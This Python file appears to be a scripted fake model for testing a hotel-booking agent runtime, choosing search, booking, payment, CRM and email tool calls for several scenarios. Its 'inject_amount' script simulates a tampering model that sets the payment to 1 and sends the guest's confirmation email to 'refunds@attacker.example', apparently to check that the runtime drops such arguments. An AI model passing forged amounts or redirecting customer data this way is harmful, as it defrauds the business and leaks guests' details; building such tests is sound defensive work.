"""The StayHub agent's scripted "LLM": reads the conversation, decides the next call.

Scripts, chosen by the run input's ``script``:

- ``normal``: search -> availability -> create_booking -> create_payment -> crm_upsert
  -> send_email -> final answer.
- ``inject_amount``: as normal, but passes ``amount: 1`` to create_payment and an
  address it made up to send_email (both server arguments: the runtime drops them and
  records them as ``ignored_model_args``).
- ``loop``: after the booking, keeps searching forever (the step budget stops it).
- ``loop_after_payment``: the same, after the payment (the runtime then refunds the
  charge and cancels the booking: its compensations, newest first).
- ``guest_cancels``: after the payment the guest changes their mind: the model refunds the
  payment with ``refund_payment``, cancels the booking with ``cancel_booking`` and answers
  (no CRM update, no email).

A failed step is answered like a model would: a declined (or otherwise failed) payment
makes the script cancel the booking itself with ``cancel_booking`` and give up with a
final text; any other failure ends the run with a final text that explains it. A
corporate booking (input ``company_id``) that its manager rejects (or lets expire) is
answered with one rejection email to the guest, then a final text.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from agentledger import ModelRequest, Turn

INVENTED_ADDRESS = "refunds@attacker.example"


@dataclass
class Result:
    """One tool result seen in the conversation."""

    tool: str
    args: dict[str, Any]
    ok: bool
    data: Any


def tool_results(request: ModelRequest) -> list[Result]:
    """The tool calls of the conversation so far, with their results, in order."""
    calls: dict[str, tuple[str, dict[str, Any]]] = {}
    results: list[Result] = []
    for message in request.messages:
        if message.role == "assistant":
            for call in message.tool_calls:
                try:
                    args = json.loads(call.arguments) if call.arguments else {}
                except json.JSONDecodeError:
                    args = {}
                calls[call.id] = (call.name, args if isinstance(args, dict) else {})
        elif message.role == "tool" and message.tool_call_id in calls:
            name, args = calls[message.tool_call_id]
            try:
                data = json.loads(message.content or "null")
            except json.JSONDecodeError:
                data = message.content
            ok = not (isinstance(data, dict) and "error" in data and "message" in data)
            results.append(Result(name, args, ok, data))
    return results


def run_input(request: ModelRequest) -> dict[str, Any]:
    """The run input (the engine passes it as metadata; else the first user message)."""
    value = request.metadata.get("input")
    if isinstance(value, dict):
        return value
    for message in request.messages:
        if message.role == "user" and message.content:
            try:
                parsed = json.loads(message.content)
            except json.JSONDecodeError:
                break
            if isinstance(parsed, dict):
                return parsed
            break
    return {}


def _booking(results: list[Result]) -> dict[str, Any] | None:
    for r in results:
        if r.tool == "create_booking" and r.ok and isinstance(r.data, dict):
            return r.data
    return None


def booking_script(request: ModelRequest) -> Turn:
    """Decide the next turn from the conversation (deterministic, so resumable)."""
    data = run_input(request)
    guest_id = str(data.get("guest_id", "g-123"))
    city = str(data.get("city", "Lisbon"))
    check_in = str(data.get("check_in", "2026-12-20"))
    nights = int(data.get("nights", 2))
    script = str(data.get("script", "normal"))
    results = tool_results(request)
    if not results:
        return Turn(calls=[("search_hotels", {"city": city, "nights": nights})])
    last = results[-1]
    booking = _booking(results)

    if script == "loop" and booking is not None:
        return Turn(calls=[("search_hotels", {"city": city, "nights": nights})])
    paid = any(r.tool == "create_payment" and r.ok for r in results)
    refunded = any(r.tool == "refund_payment" and r.ok for r in results)
    if script == "loop_after_payment" and paid:
        return Turn(calls=[("search_hotels", {"city": city, "nights": nights})])

    if not last.ok:
        error = last.data.get("error") if isinstance(last.data, dict) else "error"
        if last.tool == "create_payment" and booking is not None:
            return Turn(calls=[("cancel_booking", {"booking_id": booking["booking_id"]})])
        if last.tool == "create_booking" and error == "refused" and data.get("company_id"):
            # The company's manager rejected the booking (or let it expire): tell the guest.
            return Turn(calls=[("send_email", _rejection_email(guest_id, city, check_in))])
        if last.tool == "get_availability":
            return _next_hotel(results, check_in, nights) or Turn(
                text=f"Sorry, I could not check availability in {city} ({error})."
            )
        return Turn(text=f"Sorry, I could not complete the booking: {last.tool} failed ({error}).")

    if last.tool == "search_hotels":
        return _next_hotel(results, check_in, nights) or Turn(
            text=f"Sorry, there are no hotels available in {city}."
        )
    if last.tool == "get_availability":
        if last.data.get("available"):
            return Turn(
                calls=[
                    (
                        "create_booking",
                        {
                            "hotel_id": last.data["hotel_id"],
                            "guest_id": guest_id,
                            "check_in": check_in,
                            "nights": nights,
                        },
                    )
                ]
            )
        return _next_hotel(results, check_in, nights) or Turn(
            text=f"Sorry, every hotel in {city} is full for those dates."
        )
    if last.tool == "create_booking":
        payment: dict[str, Any] = {"booking_id": last.data["booking_id"], "guest_id": guest_id}
        if script == "inject_amount":
            payment["amount"] = 1
        return Turn(calls=[("create_payment", payment)])
    if last.tool == "cancel_booking":
        if refunded:
            return Turn(text="As you asked, I cancelled the booking and refunded the payment.")
        return Turn(
            text="Your payment was declined, so I cancelled the booking. Nothing was charged."
        )
    if last.tool == "refund_payment" and booking is not None:
        return Turn(calls=[("cancel_booking", {"booking_id": booking["booking_id"]})])
    if script == "guest_cancels" and last.tool == "create_payment":
        return Turn(calls=[("refund_payment", {"payment_id": last.data["payment_id"]})])
    if last.tool == "create_payment" and booking is not None:
        return Turn(
            calls=[
                (
                    "crm_upsert",
                    {
                        "guest_id": guest_id,
                        "booking_id": booking["booking_id"],
                        "fields": {"last_booking": booking["booking_id"], "city": city},
                    },
                )
            ]
        )
    if last.tool == "crm_upsert" and booking is not None:
        email: dict[str, Any] = {
            "guest_id": guest_id,
            "booking_id": booking["booking_id"],
            "subject": f"Your stay in {city} is confirmed",
            "body": f"Booking {booking['booking_id']} from {check_in} for {nights} nights.",
        }
        if script == "inject_amount":
            email["to"] = INVENTED_ADDRESS
        return Turn(calls=[("send_email", email)])
    if last.tool == "send_email" and booking is None:
        return Turn(
            text="Your company did not approve this booking, so nothing was booked or "
            "charged. We have emailed you."
        )
    if last.tool == "send_email" and booking is not None:
        total = booking.get("total", {})
        return Turn(
            text=(
                f"Booked {booking['hotel_id']} in {city} from {check_in} for "
                f"{nights} nights (booking {booking['booking_id']}, "
                f"{total.get('amount', 0) / 100:.2f} {total.get('currency', '')}). "
                "A confirmation email is on its way."
            )
        )
    return Turn(text="Done.")


def _rejection_email(guest_id: str, city: str, check_in: str) -> dict[str, Any]:
    """The email telling a corporate guest that their booking was not approved."""
    return {
        "guest_id": guest_id,
        "booking_id": None,
        "subject": f"Your stay in {city} was not approved",
        "body": f"Your company did not approve the stay from {check_in}; nothing was booked.",
        "template": "corporate_rejected",
    }


def _next_hotel(results: list[Result], check_in: str, nights: int) -> Turn | None:
    """Check the cheapest hotel not yet checked."""
    search = next((r for r in reversed(results) if r.tool == "search_hotels" and r.ok), None)
    if search is None or not isinstance(search.data, dict):
        return None
    checked = {r.args.get("hotel_id") for r in results if r.tool == "get_availability"}
    hotels = sorted(
        search.data.get("hotels", []), key=lambda h: (h["total"]["amount"], h["hotel_id"])
    )
    for hotel in hotels:
        if hotel["hotel_id"] not in checked:
            return Turn(
                calls=[
                    (
                        "get_availability",
                        {"hotel_id": hotel["hotel_id"], "check_in": check_in, "nights": nights},
                    )
                ]
            )
    return None
